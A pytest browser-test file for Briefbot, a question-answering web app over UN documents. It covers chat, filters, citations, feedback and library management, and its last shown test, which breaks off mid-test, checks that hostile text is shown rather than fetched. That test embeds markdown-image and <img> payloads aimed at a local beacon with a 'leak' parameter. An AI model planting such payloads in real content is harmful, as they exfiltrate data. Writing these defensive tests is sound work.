"""The real app in Debian Chromium, one control at a time; every step fails on an error toast or error badge.

One server for the module (the shared sample index, see web_support). Screenshots go to tests/artifacts/
(gitignored); docs/*.png are copies of the chat, filters and library ones.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import shutil
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from briefbot.feedback import append_feedback, feedback_path, make_record
from briefbot.service import Briefbot
from web_support import (
    ARTIFACTS,
    BROWSER_MARKS,
    LIBYA_Q,
    QUESTION_AT_TOP_JS,
    Beacon,
    ask,
    assert_no_errors,
    broken_words,
    choice_shown,
    download_from,
    errors_on,
    fits_sideways,
    last_bot_text,
    newest_answer_visible,
    select_answer,
    wait_uploaded,
)

FIXTURE_PDF = Path(__file__).parent / "fixtures" / "pdf" / "S_2025_172.pdf"
MARS_Q = "What is the population of Mars?"

pytestmark = BROWSER_MARKS


def _shot(pg: Any, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    pg.screenshot(path=str(ARTIFACTS / name))


def _open_filters(pg: Any) -> None:
    pg.click("#filters button")
    pg.wait_for_selector("#f-from input", state="visible", timeout=10_000)


def _pick(pg: Any, elem: str, value: str) -> None:
    """Choose ``value`` in the dropdown ``#elem`` the way a user does: type, then click the option."""
    pg.click(f"#{elem} input")
    pg.fill(f"#{elem} input", value)
    pg.locator('[data-testid="dropdown-option"]', has_text=value).first.click()
    pg.keyboard.press("Escape")


# --- chat -----------------------------------------------------------------------------------------------------
def test_layout_on_first_load(page: Any) -> None:
    # The intro placeholder is not covered by a label (there is none on the chat), and the chat fits the window.
    assert page.locator('#chatbot [data-testid="block-label"]').count() == 0
    intro = page.locator("#chatbot .placeholder-content, #chatbot .placeholder").first
    assert "Ask a question about the indexed UN documents" in intro.inner_text()
    _shot(page, "web_first_load.png")


def test_filters_open_close_set_and_clear(page: Any) -> None:
    _open_filters(page)
    assert page.locator("#f-from input").input_value() in ("", "Any year")
    page.click("#filters button")  # closed again: the bug was that this alone broke every question
    ask(page, LIBYA_Q)
    assert "15 May 2026" in last_bot_text(page)

    _open_filters(page)
    page.locator("#f-types label", has_text="Secretary-General report").click()
    _pick(page, "f-from", "2025")
    _pick(page, "f-to", "2025")
    _shot(page, "web_filters.png")
    ask(page, LIBYA_Q)
    cards = page.inner_text("#cards")
    assert re.findall(r"S/2025/\d+", cards), cards
    assert "S/RES/2769" not in cards  # a resolution is not an SG report

    # The samples hold no analysis, so no Source choice is offered (it could only filter every question away).
    assert not page.locator("#f-origin").is_visible()
    # A type the samples lack: the filter, not the question, is why nothing is answered.
    page.locator("#f-types label", has_text="Secretary-General report").click()
    page.locator("#f-types label", has_text="Panel/Group of Experts").click()
    ask(page, LIBYA_Q)
    assert ("No indexed document fits the filters (type Panel/Group of Experts or Monitoring Team report; "
            "year 2025): clear or widen them.") in last_bot_text(page)
    assert_no_errors(page, "asking with filters no document fits")

    page.click("#f-clear")
    page.wait_for_function("document.querySelector('#f-from input').value === '' || "
                           "document.querySelector('#f-from input').value === 'Any year'", timeout=10_000)
    assert page.locator("#f-to input").input_value() in ("", "Any year")
    assert not page.locator("#f-types input:checked").count()
    ask(page, LIBYA_Q)
    assert "S/RES/2769 (2025)" in page.inner_text("#cards")

    # A reversed range means the years between, as in the CLI, and the answer says how it was read.
    for box, year in (("f-from", "2026"), ("f-to", "2024")):
        page.fill(f"#{box} input", year)
        page.keyboard.press("Enter")
    ask(page, LIBYA_Q)
    said = last_bot_text(page)
    assert "Years read as 2024-2026: the range was given from 2026 to 2024." in said and "15 May 2026" in said
    assert_no_errors(page, "asking with a reversed year range")
    page.click("#f-clear")
    page.wait_for_function("['', 'Any year'].includes(document.querySelector('#f-to input').value)",
                           timeout=10_000)

    # A year typed by hand that is not a year: a clear warning, the question kept, nothing asked.
    page.fill("#f-from input", "20x5")
    page.keyboard.press("Enter")
    page.fill("#question textarea", MARS_Q)
    page.click("#ask")
    page.wait_for_selector(".toast-body.warning", timeout=20_000)
    assert "is not a year" in page.inner_text(".toast-body.warning")
    assert errors_on(page), "the error helper must see the warning toast it is meant to fail on"
    assert page.locator("#question textarea").input_value() == MARS_Q


def test_a_question_over_the_limit_is_refused_and_kept(page: Any) -> None:
    # The box used to cut a pasted text at 2,000 characters without a word; now the server refuses it whole.
    pasted = LIBYA_Q + " Background: the Panel reported on arms transfers by sea." * 45
    page.fill("#question textarea", pasted)
    assert page.locator("#question textarea").input_value() == pasted  # nothing cut in the browser
    page.click("#ask")
    page.wait_for_selector(".toast-body.warning", timeout=20_000)
    assert f"is {len(pasted):,} characters long" in page.inner_text(".toast-body.warning")
    assert page.locator("#question textarea").input_value() == pasted
    assert page.locator('#chatbot [data-testid="bot"]').count() == 0  # nothing was asked
    page.locator(".toast-body .toast-close, .toast-close").first.click()
    page.wait_for_selector(".toast-body", state="detached", timeout=10_000)
    ask(page, LIBYA_Q)  # the shortened question is answered as usual
    assert "15 May 2026" in last_bot_text(page)
    assert_no_errors(page, "asking after a refused question")


def test_the_first_answer_opens_at_its_question_as_later_ones_do(page: Any) -> None:
    """After a reload (and after New conversation) the first answer was left scrolled to its END, the question and
    the bold lead line out of sight: Gradio's autoscroll, due 300 ms after an update that found the empty chat at
    its bottom, came after the scroll that puts the question at the top. Later answers were right."""
    for step in ("a reload", "New conversation"):
        if step == "New conversation":
            page.click("#new-conversation")
            page.wait_for_function("!document.querySelector('#chatbot [data-testid=\"user\"]')", timeout=30_000)
        ask(page, "What does resolution 2781 (2025) decide about the arms embargo?")
        page.wait_for_timeout(1500)  # past the autoscroll's 300 ms, and the late loads of the answer's parts
        top, scrollable = page.evaluate(QUESTION_AT_TOP_JS)
        assert scrollable > 50, "the answer fits the chat: nothing to test (a longer one is needed)"
        assert 0 <= top <= 40, f"after {step} the first question is {top:.0f} px from the chat's top, out of sight"


PLACEHOLDER_FITS_JS = """() => {
  const box = document.querySelector('#fb-comment textarea');
  const style = getComputedStyle(box);
  const ctx = document.createElement('canvas').getContext('2d');
  ctx.font = `${style.fontStyle} ${style.fontWeight} ${style.fontSize} ${style.fontFamily}`;
  const room = box.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight);
  return [ctx.measureText(box.placeholder).width, room, box.placeholder];
}"""


def test_the_comment_placeholder_fits_on_its_line(page: Any) -> None:
    """"Comment on this answer (optional)" wrapped in its one-line box, its second line clipped."""
    for width, height in ((1400, 1000), (1024, 768)):
        page.set_viewport_size({"width": width, "height": height})
        page.wait_for_timeout(300)
        text_width, room, text = page.evaluate(PLACEHOLDER_FITS_JS)
        assert text and text_width <= room, f"at {width} px “{text}” needs {text_width:.0f} px of {room:.0f}"


def test_questions_in_a_row_show_the_newest_answer(page: Any) -> None:
    questions = [LIBYA_Q, MARS_Q, "What does resolution 2781 (2025) decide about the arms embargo?",
                 "Which armed groups are involved in illicit gold trade in Sudan?",
                 "What did the Secretary-General report about migrant smuggling in Libya?"]
    for n, q in enumerate(questions, start=1):
        ask(page, q)
        if n in (2, 5):
            assert newest_answer_visible(page), f"after {n} questions the newest answer is off screen"
            # The citation panel belongs to the newest answer.
            assert f"answer {n}:" in page.inner_text("#fb-target")
            assert q[:40] in page.inner_text("#fb-target")
            _shot(page, f"web_{n}_questions.png")
    assert page.locator('#chatbot [data-testid="bot"]').count() == 5
    page.click("#export-md")
    assert download_from(page, "export-file", "briefbot-answer-5", ".md").read_text(encoding="utf-8")
    page.locator("#cards button").first.click()  # answer 5's first citation, on its page
    page.wait_for_selector("#page-image img", timeout=60_000)
    # Selecting an earlier answer brings back its own citations, takes away answer 5's download and closes answer
    # 5's page (it stayed open, with working page buttons, beside answer 1's cards: a walk-through's find).
    select_answer(page, 0)
    page.wait_for_function("document.querySelector('#fb-target').innerText.includes('answer 1:')",
                           timeout=20_000)
    assert "S/RES/2769 (2025)" in page.inner_text("#cards")
    page.wait_for_selector("#export-file", state="hidden", timeout=20_000)
    page.wait_for_selector("#page-image", state="hidden", timeout=20_000)
    assert not page.locator("#page-nav").is_visible()
    assert "Select a citation" in page.inner_text("#page-caption")
    assert_no_errors(page, "selecting the first answer")


def test_citation_page_pdf_export_and_feedback(page: Any, app: tuple[str, Briefbot]) -> None:
    _, bot = app
    lengths = ask(page, LIBYA_Q)
    answer = last_bot_text(page)
    assert "15 May 2026" in answer and "S/RES/2769 (2025), para. 22, p. 6" in answer
    # The placeholder first, then the extractive answer whole (it is complete when computed: no partial updates,
    # each of which re-sends the chat); the final text has the answer's full length.
    assert len(lengths) >= 2 and lengths[-1] >= len(answer) - 5, f"not placeholder then answer: {lengths}"
    assert all(n < 80 for n in lengths[:-1]), f"partial answers were sent: {lengths}"
    assert "confidence" not in answer and "threshold" not in answer
    # The direct line is bold, not "**15 May 2026**" with its asterisks showing.
    assert "**" not in answer
    assert page.locator('#chatbot [data-testid="bot"]').last.locator("strong", has_text="15 May 2026").count() == 1
    _shot(page, "web_chat.png")

    card = page.locator("#cards button").filter(has_text="S/RES/2769 (2025)").filter(
        has_text=re.compile(r"para\.\s22"))
    assert card.count() == 1
    # No empty image frame (a broken-picture icon) before a citation is picked.
    assert not page.locator("#page-image").is_visible()
    card.click()
    page.wait_for_selector("#page-image img", timeout=60_000)
    caption = page.inner_text("#page-caption")
    assert "S/RES/2769 (2025), para. 22, p. 6" in caption and "quote highlighted" in caption
    assert_no_errors(page, "opening a citation's page")
    _shot(page, "web_citation_page.png")

    page.click("#pdf-download")
    assert download_from(page, "export-file", "S_RES_2769_2025", ".pdf").read_bytes()[:5] == b"%PDF-"
    assert_no_errors(page, "downloading the PDF")

    page.click("#export-md")
    markdown = download_from(page, "export-file", "briefbot-answer", ".md").read_text(encoding="utf-8")
    assert markdown.startswith(f"# {LIBYA_Q}") and "S/RES/2769 (2025), para. 22, p. 6" in markdown
    assert_no_errors(page, "exporting the answer")

    # One feedback mechanism: the buttons under the answer (no thumbs on the messages).
    assert page.locator('#chatbot [aria-label="like"], #chatbot [aria-label="dislike"]').count() == 0
    page.fill("#fb-comment textarea", "Right paragraph, right date.")
    page.click("#fb-up")
    page.wait_for_function("document.querySelector('#fb-status').innerText.includes('Thanks')", timeout=30_000)
    assert_no_errors(page, "giving feedback")
    records = [json.loads(line) for line in
               feedback_path(Path(bot.settings.index)).read_text(encoding="utf-8").splitlines()]
    mine = [r for r in records if r["comment"] == "Right paragraph, right date."]
    assert len(mine) == 1
    assert mine[0]["rating"] == "up" and mine[0]["question"] == LIBYA_Q and mine[0]["timestamp"]
    assert mine[0]["owner"] == "local"  # the local user (feedback.LOCAL_OWNER): loopback, no sign-in
    assert any(c["symbol"] == "S/RES/2769 (2025)" and c["paragraph"] == "22" for c in mine[0]["citations"])
    # The thanks belongs to that answer: the next one does not carry it.
    ask(page, MARS_Q)
    page.wait_for_function("!document.querySelector('#fb-status').innerText.includes('Thanks')", timeout=30_000)
    assert "answer 2:" in page.inner_text("#fb-target")
    # Nor the download or the open page: the new answer takes them away (its cards are shown, none picked).
    page.wait_for_selector("#export-file", state="hidden", timeout=20_000)
    page.wait_for_selector("#page-image", state="hidden", timeout=20_000)
    assert not page.locator("#page-nav").is_visible()
    assert "Select a citation" in page.inner_text("#page-caption")

    # This session sees its comment in the Feedback tab as soon as it opens it (no Refresh), and its export ...
    page.get_by_role("tab", name="Feedback").click()
    page.wait_for_function("document.querySelector('#fb-table').innerText.includes('Right paragraph')",
                           timeout=30_000)
    page.click("#fb-jsonl")
    exported = download_from(page, "fb-export", ".jsonl").read_text(encoding="utf-8")
    assert "Right paragraph, right date." in exported
    assert_no_errors(page, "exporting feedback")


def test_a_changed_vote_replaces_the_first_where_it_counts(page: Any, app: tuple[str, Briefbot]) -> None:
    _, bot = app
    ask(page, MARS_Q)
    page.click("#fb-up")
    page.wait_for_function("document.querySelector('#fb-status').innerText.includes('Thanks')", timeout=30_000)
    assert "replaces" not in page.inner_text("#fb-status")
    page.click("#fb-down")
    page.wait_for_function("document.querySelector('#fb-status').innerText.includes('replaces')", timeout=30_000)
    assert "recorded “not helpful”" in page.inner_text("#fb-status")
    assert "It replaces your earlier “helpful”" in page.inner_text("#fb-status")
    assert_no_errors(page, "changing a vote")
    records = [json.loads(line) for line in
               feedback_path(Path(bot.settings.index)).read_text(encoding="utf-8").splitlines()]
    owner = records[-1]["owner"]
    # The file keeps both votes (append-only) ...
    assert [r["rating"] for r in records if r["owner"] == owner and r["question"] == MARS_Q] == ["up", "down"]
    # ... the Feedback tab and its exports count the latest only.
    page.get_by_role("tab", name="Feedback").click()
    page.wait_for_function("document.querySelector('#fb-table').innerText.includes('population of Mars')",
                           timeout=30_000)
    page.click("#fb-csv")
    exported = download_from(page, "fb-export", "briefbot-feedback", "csv").read_text(encoding="utf-8")
    # (The local user's earlier votes on other answers, given by other tests, are listed too.)
    assert [(r["question"], r["rating"]) for r in csv.DictReader(io.StringIO(exported))
            if r["question"] == MARS_Q] == [(MARS_Q, "down")]
    assert_no_errors(page, "exporting a changed vote")
    # The same vote with a comment, then clicked again (the box emptied by the first): the comment stays counted.
    page.get_by_role("tab", name="Chat").click()
    page.fill("#fb-comment textarea", "misses para 19")
    page.click("#fb-down")
    page.wait_for_function("document.querySelector('#fb-comment textarea').value === ''", timeout=30_000)
    page.click("#fb-down")
    page.wait_for_function("document.querySelector('#fb-status').innerText.includes('earlier comment is kept')",
                           timeout=30_000)
    assert_no_errors(page, "giving the same vote again")
    page.get_by_role("tab", name="Feedback").click()
    page.click("#fb-csv")
    exported = download_from(page, "fb-export", "briefbot-feedback", "csv").read_text(encoding="utf-8")
    assert [(r["rating"], r["comment"]) for r in csv.DictReader(io.StringIO(exported))
            if r["question"] == MARS_Q] == [("down", "misses para 19")]


def _fb_when_column(pg: Any) -> list[str]:
    """The Feedback table's "When" cells, top to bottom as shown."""
    texts: list[str] = pg.locator('#fb-table .virtual-row .body-cell[data-col="0"]').all_inner_texts()
    return [t.strip() for t in texts]


def test_feedback_stays_after_a_reload_and_sorts_by_time(page: Any, app: tuple[str, Briefbot]) -> None:
    """On a loopback server without sign-in the analyst is its one local user, as for the history: their feedback
    is in the Feedback tab after a reload (kept per browser session, it was gone). Its "When" column sorts by time,
    not as text ("10 Dec 2026" before "4 Dec 2026")."""
    _, bot = app
    ask(page, MARS_Q)
    page.fill("#fb-comment textarea", "kept over a reload 7f3a")
    page.click("#fb-down")
    page.wait_for_function("document.querySelector('#fb-status').innerText.includes('Thanks')", timeout=30_000)
    page.reload()
    page.wait_for_selector("#question textarea", timeout=60_000)
    assert_no_errors(page, "reloading")
    page.get_by_role("tab", name="Feedback").click()
    page.wait_for_function("document.querySelector('#fb-table').innerText.includes('kept over a reload 7f3a')",
                           timeout=30_000)
    assert_no_errors(page, "opening the Feedback tab after a reload")

    # Votes given on other days by the same owner (whoever the app took them to be), then sorted by "When".
    path = feedback_path(Path(bot.settings.index))
    owner = json.loads(path.read_text(encoding="utf-8").splitlines()[-1])["owner"]
    mars = bot.ask(MARS_Q)
    for day in (datetime(2025, 12, 5, 9, tzinfo=UTC), datetime(2026, 12, 10, 9, tzinfo=UTC),
                datetime(2026, 12, 4, 9, tzinfo=UTC)):
        append_feedback(path, make_record(dataclasses.replace(mars, question=f"asked on {day:%d %b %Y}"), "up",
                                          "Right answer, but the closest passages should have named the Panel of "
                                          "Experts on Libya and its reporting schedule under S/RES/2769 (2025)",
                                          owner=owner, now=day))
    page.click("#fb-refresh")
    page.wait_for_function("document.querySelector('#fb-table').innerText.includes('asked on 04 Dec 2026')",
                           timeout=30_000)
    header = page.locator("#fb-table th:visible").first
    header.hover()
    header.locator("button.cell-menu-button").click()
    page.get_by_text("Sort ascending").first.click()
    shown = [w for w in _fb_when_column(page) if w.endswith("UTC")]
    seeded = [w for w in shown if w in ("5 Dec 2025, 09:00 UTC", "4 Dec 2026, 09:00 UTC", "10 Dec 2026, 09:00 UTC")]
    assert seeded == ["5 Dec 2025, 09:00 UTC", "4 Dec 2026, 09:00 UTC", "10 Dec 2026, 09:00 UTC"], shown
    assert shown[0] == "5 Dec 2025, 09:00 UTC", shown
    assert_no_errors(page, "sorting the Feedback table by time")
    # Its columns share the panel, words whole: long comments ran it past the panel even at 1440 px.
    assert fits_sideways(page, "fb-table") and broken_words(page, "fb-table") == []


def test_reload_starts_clean_and_keeps_working(page: Any) -> None:
    ask(page, MARS_Q)
    page.reload()
    page.wait_for_selector("#question textarea", timeout=60_000)
    assert_no_errors(page, "reloading")
    ask(page, LIBYA_Q)
    assert "15 May 2026" in last_bot_text(page)


# --- library ----------------------------------------------------------------------------------------------------
def test_library_upload_and_remove(page: Any, app: tuple[str, Briefbot], tmp_path: Path) -> None:
    _, bot = app
    page.get_by_role("tab", name="Library").click()
    # The table is filled by the page's load event, which may still be on its way (a run of this test alone).
    page.wait_for_function("document.querySelector('#library-table')?.innerText.includes('S/RES/2769 (2025)')",
                           timeout=30_000)
    # The table fits the page: no horizontal scrolling of the window or the table.
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    width = page.evaluate("() => { const t = document.querySelector('#library-table table');"
                          " return [t.scrollWidth, document.querySelector('#library-table').clientWidth]; }")
    assert width[0] <= width[1] + 2, width
    _shot(page, "web_library.png")

    # "Add to index" with no file chosen says what to do, as Remove does (it did nothing: a browser walk's find).
    console: list[str] = []
    page.on("console", lambda m: console.append(m.text) if m.type == "error" else None)
    page.click("#upload-btn")
    page.wait_for_function("document.querySelector('#upload-status').innerText.includes('Choose the files')",
                           timeout=30_000)
    assert_no_errors(page, "adding with no file chosen")
    assert not console, console

    upload = tmp_path / "S_2025_172.pdf"
    shutil.copyfile(FIXTURE_PDF, upload)
    try:
        page.set_input_files("#upload input[type=file]", str(upload))
        wait_uploaded(page, "upload", upload.name)
        page.click("#upload-btn")
        page.wait_for_function("document.querySelector('#upload-status').innerText.includes('Ingest finished')",
                               timeout=300_000)
        status = page.inner_text("#upload-status")
        assert "another ingest" not in status and "1 ingested" in status, status
        # The file handed over left the box: the next "Add to index" does not send it again.
        assert page.locator("#upload").get_by_role("cell", name=upload.name, exact=True).count() == 0
        assert_no_errors(page, "uploading a PDF")
        # The upload's table keeps its header and status words whole at 1024 px ("Statu / s" was a walk's find);
        # the file name may break where it must.
        page.set_viewport_size({"width": 1024, "height": 768})
        page.wait_for_timeout(300)
        assert broken_words(page, "upload-results", skip=0) == []
        page.set_viewport_size({"width": 1400, "height": 1000})
        page.wait_for_function("document.querySelector('#library-table').innerText.includes('S/2025/172')",
                               timeout=30_000)
        # "Manage a document" lists it without pressing Refresh.
        _pick(page, "manage-doc", "S/2025/172")
        page.wait_for_function("document.querySelector('#manage-info').innerText.includes('S_2025_172.pdf')",
                               timeout=30_000)
        page.click("#manage-show")
        page.locator("#manage-passages").wait_for(state="visible", timeout=30_000)

        # Remove asks first: nothing goes until Confirm, and Cancel loses nothing.
        console: list[str] = []
        page.on("console", lambda m: console.append(m.text) if m.type == "error" else None)
        page.on("pageerror", lambda e: console.append(str(e)))
        _pick(page, "remove-docs", "S/2025/172")
        page.click("#remove-btn")
        page.locator("#remove-confirm-text").wait_for(state="visible", timeout=30_000)
        asked = page.inner_text("#remove-confirm-text")
        assert "Remove S/2025/172 (S_2025_172.pdf) from the index?" in asked and "cannot be undone" in asked, asked
        assert "S_2025_172.pdf" in {d.doc_id for d in bot.library()}
        assert "S/2025/172" in page.inner_text("#library-table")
        assert_no_errors(page, "asking to remove a document")
        page.click("#remove-cancel-btn")
        page.wait_for_function("document.querySelector('#remove-status').innerText.includes('Nothing removed')",
                               timeout=30_000)
        page.locator("#remove-confirm-text").wait_for(state="hidden", timeout=30_000)
        assert "S_2025_172.pdf" in {d.doc_id for d in bot.library()}
        assert "S/2025/172" in page.inner_text("#library-table")
        assert_no_errors(page, "cancelling the removal")

        # Refreshing the list clears the choice and withdraws the question: no Confirm left to remove it with.
        page.click("#remove-btn")
        page.locator("#remove-confirm-btn").wait_for(state="visible", timeout=30_000)
        page.click("#library-refresh")
        page.locator("#remove-confirm-btn").wait_for(state="hidden", timeout=30_000)
        assert "S_2025_172.pdf" in {d.doc_id for d in bot.library()}
        assert_no_errors(page, "refreshing the list while a removal was asked")

        _pick(page, "remove-docs", "S/2025/172")
        page.click("#remove-btn")  # chosen again: asked again
        page.locator("#remove-confirm-btn").wait_for(state="visible", timeout=30_000)
        assert "S/2025/172" in page.inner_text("#remove-confirm-text")
        page.click("#remove-confirm-btn")
        # Gradio's progress overlay ("processing | 0.3s") may still sit over the status when the text arrives (a
        # suite run beside other work): the status is read once the event has finished.
        page.wait_for_function("(t => t.includes('Removed') && !t.includes('processing'))"
                               "(document.querySelector('#remove-status').innerText)", timeout=60_000)
        assert page.inner_text("#remove-status").strip() == "Removed from the index: S_2025_172.pdf."
        page.locator("#remove-confirm-btn").wait_for(state="hidden", timeout=30_000)
        assert_no_errors(page, "removing a document")
        assert not console, f"console errors while removing: {console}"
        page.wait_for_function("!document.querySelector('#library-table').innerText.includes('S/2025/172')",
                               timeout=30_000)
        # ... and from "Manage a document": its details and passages went with it.
        page.wait_for_function("!document.querySelector('#manage-info').innerText.includes('S_2025_172.pdf')",
                               timeout=30_000)
        page.locator("#manage-passages").wait_for(state="hidden", timeout=30_000)
        assert_no_errors(page, "the removed document leaving the manage panel")
    finally:
        if "S_2025_172.pdf" in {d.doc_id for d in bot.library()}:
            bot.remove(["S_2025_172.pdf"])
    assert "S_2025_172.pdf" not in {d.doc_id for d in bot.library()}




def test_library_words_stay_whole_and_a_long_title_is_read_whole_in_its_box(app: tuple[str, Briefbot],
                                                                          browser: Any) -> None:
    """A browser walk found the Library's narrow columns breaking "S/RES/278|3 (2025)" and "resolutio|n", and the
    Manage-a-document picker's arrow drawn over a long title's end; the next walk, the table scrolling sideways at
    1024 px beside the open sidebar, and the title cut in "…" before the arrow. At a wide and a small window: every
    word of the table on one line, the table within its panel (no sideways scroll), and the picked document's name
    read whole in its box."""
    # A failed file as the full corpus has one: a long name, a reason with a URL. Its table ran past the panel in
    # Gradio's monospace, its "When" out of sight.
    app[1].store.record_failure(Path("S_2024_207_ODS_not_found_placeholder.pdf"), None,
                                "not a UN document: an error page (https://documents.un.org/doc/undoc/gen/n24/"
                                "placeholder.pdf: the document you are looking for does not exist)")
    for width, height in ((1400, 900), (1024, 768)):
        context = browser.new_context(viewport={"width": width, "height": height})
        pg = context.new_page()
        pg.goto(app[0])
        pg.get_by_role("tab", name="Library").click()
        pg.wait_for_function("document.querySelector('#library-table')?.innerText.includes('S/RES/2769 (2025)')",
                             timeout=60_000)
        pg.wait_for_timeout(500)  # the column widths are set a frame after the rows are drawn
        assert broken_words(pg, "library-table") == []
        # The whole table in view at both sizes: at 1024 px beside the open sidebar it scrolled sideways.
        assert pg.locator("#history").is_visible()  # the sidebar open
        assert pg.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        assert fits_sideways(pg, "library-table"), width
        pg.wait_for_function("document.querySelector('#failures-table')?.innerText.includes('placeholder')",
                             timeout=30_000)
        pg.wait_for_timeout(500)
        assert fits_sideways(pg, "failures-table"), width
        pg.click("#manage-doc input")
        options = pg.locator('#manage-doc [data-testid="dropdown-option"], ul.option-list li')
        options.first.wait_for(timeout=30_000)
        texts = options.all_inner_texts()
        options.nth(max(range(len(texts)), key=lambda i: len(texts[i]))).click()
        pg.keyboard.press("Escape")
        pg.locator("#manage-doc input").blur()
        # The picked document is read whole in the box, over lines as needed, none under the arrow: its text
        # stopped before the arrow in "…", the title's end cut (a browser walk's find).
        pg.wait_for_function("() => document.querySelector('#manage-doc input').value.length > 0", timeout=30_000)
        shown = choice_shown(pg, "manage-doc")
        assert shown["value"] == max(texts, key=len).strip() and shown["whole"], shown
        _shot(pg, f"web_library_{width}.png")
        assert_no_errors(pg, f"the library at {width} px")
        context.close()


def _widest_library(docs: list[Any]) -> list[Any]:
    """The library with the full corpus's widest words in its first rows (its longest symbol, a title's
    "proliferation/Democratic" and Cyrillic words, a panel report's type, two places, the warnings of a
    presidential statement, a page without text), each document otherwise as indexed."""
    wide = [dataclasses.replace(d, symbol="A/AC.121/2025/L.3", doc_type="panel_report", date="1947-09-26",
                                title="Letter on non-proliferation/Democratic People's Republic of Korea "
                                      "(Центральноафриканской Республики)",
                                missions=["Afghanistan", "Bosnia and Herzegovina", "Mozambique"], empty_pages=[1],
                                warnings=["cites S/PRST/2007/22; presidential statement of 2003-09-13;"],
                                file_name="A_AC.121_2025_L.3_non_proliferation_placeholder.pdf")
            for d in docs if d.doc_id != "S_RES_2769_2025.pdf"][:3]
    return wide + [d for d in docs if d.doc_id not in {w.doc_id for w in wide}]


def test_the_library_fits_at_1024_with_the_corpus_widest_words_and_a_row_opens_its_details(
        app: tuple[str, Briefbot], browser: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """On the full corpus the Library's ten columns, every word whole, needed ~869 px beside the open sidebar's
    ~660 px at 1024 x 768 and squeezed the file name to three letters a line (a browser walk's find). With the
    corpus's widest words: the table in its panel at 1024 and 1440 px, no word broken but a title's token longer
    than 16 characters; the columns left out are a selected row's details under Manage a document."""
    from briefbot.web.views import LIBRARY_COLUMNS, LIBRARY_FLOOR_CAPS

    url, bot = app
    monkeypatch.setattr(bot, "library", lambda scope=None, _real=bot.library: _widest_library(_real(scope)))
    for width, height in ((1024, 768), (1440, 900)):
        context = browser.new_context(viewport={"width": width, "height": height})
        pg = context.new_page()
        pg.goto(url)
        pg.get_by_role("tab", name="Library").click()
        pg.wait_for_function("document.querySelector('#library-table')?.innerText.includes('A/AC.121/2025/L.3')",
                             timeout=60_000)
        pg.wait_for_timeout(500)  # the column widths are set a frame after the rows are drawn
        assert pg.locator("#history").is_visible()  # the sidebar open
        sizes = pg.evaluate("() => { const v = document.querySelector('#library-table .virtual-table-viewport');"
                            " return [v.scrollWidth, v.clientWidth]; }")
        assert fits_sideways(pg, "library-table"), (width, sizes)
        title = LIBRARY_COLUMNS.index("Title")  # its tokens longer than its word floor may break
        cap = LIBRARY_FLOOR_CAPS[title]
        assert [b for b in broken_words(pg, "library-table") if b[0] != title or len(b[1]) <= cap] == [], width
        _shot(pg, f"web_library_widest_{width}.png")
        assert_no_errors(pg, f"the library at {width} px")
        context.close()
    # Selecting a row opens its document's details: pages, passages, file and its health in full.
    page = browser.new_page(viewport={"width": 1024, "height": 768})
    page.goto(url)
    page.get_by_role("tab", name="Library").click()
    page.locator("#library-table .virtual-row").get_by_text("S/RES/2769 (2025)", exact=True).first.click()
    info = bot.document("S_RES_2769_2025.pdf")
    page.wait_for_function("t => document.querySelector('#manage-info')?.innerText.includes(t)",
                           arg=f"{info.chunks} passages", timeout=30_000)
    shown = page.inner_text("#manage-info")
    assert "S_RES_2769_2025.pdf" in shown and f"{info.pages} pages" in shown and "Health: ok" in shown, shown
    # The dropdown is drawn in its own update, which a loaded machine may paint after the details (a run beside an
    # evaluation read it empty): wait for it, as for the details.
    page.wait_for_function("s => document.querySelector('#manage-doc input')?.value.startsWith(s)",
                           arg="S/RES/2769 (2025)", timeout=30_000)
    assert_no_errors(page, "selecting a library row")
    # The table's search finds a document by its file name (shown after its title), and the row found opens it.
    other = next(d for d in reversed(bot.library()) if d.doc_id != "S_RES_2769_2025.pdf" and d.symbol
                 and d.symbol != "A/AC.121/2025/L.3")  # a document as indexed, not one of _widest_library's
    page.locator("#library-table input").first.fill(Path(other.file_name).stem)
    page.wait_for_function("!document.querySelector('#library-table').innerText.includes('S/RES/2769 (2025)')",
                           timeout=30_000)
    rows = page.locator("#library-table .virtual-row")
    assert rows.count() == 1 and other.file_name in rows.first.inner_text(), rows.first.inner_text()
    rows.first.get_by_text(other.symbol, exact=True).click()
    page.wait_for_function("t => document.querySelector('#manage-info')?.innerText.includes(t)",
                           arg=f"file {other.file_name}", timeout=30_000)
    assert_no_errors(page, "searching the library by file name")
    page.close()


# --- hostile text -------------------------------------------------------------------------------------------
def _hostile_pdf(browser: Any, dest: Path, payloads: list[str]) -> Path:
    """A real PDF whose text carries the payloads, printed by Chromium from an HTML page that shows them as text."""
    import html

    pg = browser.new_page()
    lines = "".join(f"<p>{html.escape(p)}</p>" for p in payloads)
    pg.set_content("<html><body style='font: 10pt sans-serif'><h1>Beacon smuggling ledger</h1>"
                   "<p>The beacon smuggling network moved fuel through the harbour of Zawiya in 2025.</p>"
                   f"{lines}<p>The ledger of the beacon smuggling network lists the harbour payments.</p>"
                   "</body></html>")
    pg.pdf(path=str(dest), format="A4")
    pg.close()
    return dest


def test_hostile_text_is_shown_as_text_and_fetches_nothing(app: tuple[str, Briefbot], browser: Any,
                                                           tmp_path: Path) -> None:
    url, bot = app
    beacon = Beacon()
    origin = urlsplit(url)
    md_image = f"![b](http://127.0.0.1:{beacon.port}/beacon.png?leak=x)"
    img_tag = f'<img src="http://127.0.0.1:{beacon.port}/x.png">'
    pdf = _hostile_pdf(browser, tmp_path / "beacon_ledger.pdf", [md_image, img_tag])
    report = bot.ingest([pdf])
    assert not report.failed, [(r.path, r.reason) for r in report.failed]
    text = bot.page_text("beacon_ledger.pdf", 1)
    assert md_image in text and img_tag in text, text  # the payloads survived parsing
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    pg = context.new_page()
    requests: list[str] = []
    pg.on("request", lambda r: requests.append(r.url))
    try:
        pg.goto(url)
        pg.wait_for_selector("#question textarea", timeout=60_000)
        ask(pg, "Which harbour payments does the ledger of the beacon smuggling network list?")
        shown = pg.inner_text("#cards") + last_bot_text(pg)
        assert md_image in shown or img_tag in shown, shown
        # The payloads as the question itself.
        question = f"What about {md_image} and {img_tag}?"
        ask(pg, question)
        asked = pg.locator('#chatbot [data-testid="user"]').last.inner_text()
        assert md_image in asked and img_tag in asked, asked
